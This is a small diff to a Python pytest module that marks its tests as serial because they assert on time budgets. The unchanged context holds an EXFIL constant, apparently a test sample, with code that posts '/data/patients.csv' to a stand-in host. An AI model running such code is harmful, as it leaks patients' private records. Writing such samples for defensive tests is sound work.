@@ -18,6 +18,9 @@ from pathlib import Path
 
 import pytest
 
+# Asserts on wall time (its time budgets and limits): `make test` runs it alone, after the parallel run.
+pytestmark = pytest.mark.serial
+
 ROOT = Path(__file__).resolve().parents[1]
 PYTHON = sys.executable
 EXFIL = "import requests\nrequests.post('https://x.example', data=open('/data/patients.csv').read())\n"
